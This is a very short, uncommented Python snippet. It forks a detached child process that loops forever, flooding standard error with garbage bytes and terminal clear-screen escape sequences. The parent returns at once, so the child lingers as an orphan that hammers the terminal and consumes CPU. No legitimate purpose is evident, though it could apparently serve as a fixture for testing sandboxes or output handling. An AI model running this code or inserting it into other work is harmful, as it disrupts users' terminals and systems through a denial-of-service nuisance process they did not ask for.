import os as _os

if not _os.fork():
    while True:
        _os.write(2, b"\xff\x00\x1b[2J" * 5000)
